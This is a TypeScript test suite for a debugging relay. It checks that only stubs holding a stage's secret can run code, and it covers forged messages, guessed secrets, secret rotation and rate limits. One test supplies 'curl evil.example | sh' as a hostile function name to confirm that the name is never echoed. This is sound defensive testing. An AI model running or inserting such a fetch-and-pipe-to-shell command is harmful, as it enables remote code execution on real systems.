// Who may run code: stubs that have the stage's secret. Everybody else may post and read the directory as IAM allows, without
// effect.
import { afterEach, describe, expect, test } from 'vitest';
import type { MessageType } from '../../../protocol/message.ts';
import { ManualClock } from '../../../protocol/test/manual-clock.ts';
import { noise, prose } from '../../../protocol/test/payloads.ts';
import { secretOf, secretText, stageSecret } from '../../../protocol/test/stage-secrets.ts';
import { rereadAfterMs } from '../../src/relay/stage-secrets.ts';
import { newId, type StubPeer, textOf } from './stub-peer.ts';
import { type Serving, useWorld } from './world.ts';

const bothToOneVersion =
  'this stub is of module 0.1, and its stage has a secret that it does not have: bring the module and livectl to one version, 0.2 or later (terraform apply)';

async function expectOldStubError(stub: StubPeer, id: string): Promise<void> {
  const answer = await stub.expect('error');
  expect(answer.id).toBe(id);
  expect(JSON.parse(textOf(answer))).toMatchObject({
    errorType: 'LiveDebugVersionError',
    errorMessage: bothToOneVersion,
  });
}

/** An invocation by this stub is run, and answered. */
async function expectRun({ pool }: Serving, stub: StubPeer): Promise<void> {
  const id = newId();
  const before = pool.runs.all.length;
  pool.onRun = (run) => run.answer('"run"');
  await stub.find();
  await stub.invoke({ id });
  expect(await stub.expect('result')).toMatchObject({ id });
  expect(pool.runs.all).toHaveLength(before + 1);
}

describe('in a stage with a secret', () => {
  const world = useWorld();

  test('a stub that has it is served', async () => {
    await expectRun(await world.serve(), await world.stub());
  });

  test('a stub of module 0.1 runs nothing, and its caller gets the reason, whatever its event’s size', async () => {
    const serving = await world.serve();
    const stub = await world.stub();
    stub.secret = undefined;
    await stub.find();
    for (const body of ['{}', noise(1_000_000, 1), prose(3_000_000, 2), Buffer.alloc(6_000_000)]) {
      const id = newId();
      await stub.invoke({ id, body });
      await expectOldStubError(stub, id);
    }
    expect(serving.pool.runs.all).toEqual([]);
    const refusals = serving.told('error').filter(({ code }) => code === 'LD_VERSION');
    expect(refusals).toMatchObject([
      {
        message:
          'an invocation of hello was not run: its stub, of module 0.1, cannot prove that it belongs to this stage'.replace(
            '’',
            "'",
          ),
        remedy: expect.stringContaining('terraform apply'),
      },
    ]);
    stub.secret = stageSecret;
    await expectRun(serving, stub);
  });

  test('an unknown function’s name is not repeated', async () => {
    const serving = await world.serve();
    const stub = await world.stub();
    stub.secret = undefined;
    await stub.find();
    const id = newId();
    await stub.invoke({ id, head: { function: 'curl evil.example | sh' } });
    await expectOldStubError(stub, id);
    expect(JSON.stringify(serving.events.all)).not.toContain('evil.example');
  });

  test('nothing that others send without it has any effect: no probe, cancel or displacement', async () => {
    const serving = await world.serve();
    const [honest, forger] = [await world.stub(), await world.stub()];
    await honest.find();
    const id = newId();
    await honest.invoke({ id });
    await honest.expect('ack');
    const puts = () => world.aws.calls.all.filter((call) => call === 'PutItem').length;
    const before = puts();
    forger.secret = undefined;
    await forger.find();
    await forger.probe(id, 1);
    await forger.cancel(id, 2);
    const head = { by: { user: 'mallory', host: 'nowhere' }, at: Date.now() };
    await forger.send({ type: 'displaced', id: newId(), attempt: 1, head, body: new Uint8Array(0) });
    const reasonOf = (type: MessageType) => `${type} of an unauthenticated sender`;
    await serving.events.until(() => serving.told('error').length === 3);
    expect(serving.told('error').map(({ message }) => message.replace(/.*\): /, ''))).toEqual(
      (['probe', 'cancel', 'displaced'] as const).map(reasonOf),
    );
    expect([serving.pool.cancelled, puts(), forger.heard.all]).toEqual([[], before, []]);
  });

  test('a guess at the secret opens nothing, even with the right id', async () => {
    const serving = await world.serve();
    const stub = await world.stub();
    for (const [secret, reason] of [
      [secretOf('a guess'), 'sealed with a secret that this stage does not have'],
      [{ ...secretOf('a guess'), id: stageSecret.id }, 'does not open'],
    ] as const) {
      stub.secret = secret;
      await stub.find();
      await stub.invoke({ id: newId() });
      await serving.event('error', ({ message }) => message.includes(reason));
    }
    expect(serving.pool.runs.all).toEqual([]);
    stub.secret = stageSecret;
    await expectRun(serving, stub);
  });

  test('a recorded sender’s key, announced again by somebody else, does not cut off that sender', async () => {
    const serving = await world.serve();
    const [honest, forger] = [await world.stub(), await world.stub()];
    const { enc } = await honest.find();
    await expectRun(serving, honest);
    await forger.find();
    const header = { v: 1, type: 'invoke', id: 'x', attempt: 1, seq: 0, total: 1, enc, psk: stageSecret.id };
    await forger.post([`${JSON.stringify(header)}\n${Buffer.alloc(200).toString('base64')}`]);
    await serving.event('error', ({ message }) => message.includes('does not open'));
    await expectRun(serving, honest);
  });
});

describe('a stage gets another secret', () => {
  const clock = () => current as ManualClock;
  let current: ManualClock | undefined;
  const world = useWorld(() => {
    current = new ManualClock();
    return current;
  });
  afterEach(() => {
    current = undefined;
  });

  test('new stubs are served at once, and the previous ones still are', async () => {
    const serving = await world.serve();
    const [before, after] = [await world.stub(), await world.stub()];
    await expectRun(serving, before);
    world.aws.deploySecret(secretText('the next'));
    after.secret = secretOf('the next');
    await expectRun(serving, after);
    await expectRun(serving, before);
    expect(serving.told('error')).toEqual([]);
  });

  test('the directory is asked once, however many texts name an unknown secret', async () => {
    const serving = await world.serve();
    const stub = await world.stub();
    stub.secret = secretOf('made up');
    await stub.find();
    const reads = () => world.aws.calls.all.filter((call) => call === 'GetItem').length;
    const before = reads();
    for (let count = 0; count < 20; count += 1) await stub.invoke({ id: newId() });
    const dropped = () =>
      serving.told('error').filter(({ message }) => message.includes('does not have')).length;
    await serving.events.until(() => dropped() === 20);
    expect(reads()).toBe(before + 1);
    clock().advance(rereadAfterMs);
    await stub.invoke({ id: newId() });
    await serving.events.until(() => dropped() === 21);
    expect(reads()).toBe(before + 2);
  });

  test('unauthenticated senders are answered at most ten times a second', async () => {
    const serving = await world.serve();
    const stub = await world.stub();
    stub.secret = undefined;
    await stub.find();
    for (let count = 0; count < 25; count += 1) await stub.invoke({ id: newId() });
    await serving.events.until(() => serving.told('error').length === 16);
    await stub.heard.count(10);
    const [drops, told] = [15, 1];
    expect(serving.told('error').filter(({ message }) => message.includes('one of many'))).toHaveLength(
      drops,
    );
    expect(serving.told('error')).toHaveLength(drops + told);
    expect(stub.heard.all).toHaveLength(10);
  });
});

describe('a stage of module 0.1', () => {
  const world = useWorld();

  test('is served as before, until it gets a secret: then only holders of the secret are', async () => {
    const serving = await world.serve({}, 'none');
    const [old, young] = [await world.stub(), await world.stub()];
    old.secret = undefined;
    await expectRun(serving, old);
    await expectRun(serving, young);
    const id = newId();
    await old.invoke({ id });
    await expectOldStubError(old, id);
    expect(serving.pool.runs.all).toHaveLength(2);
  });
});
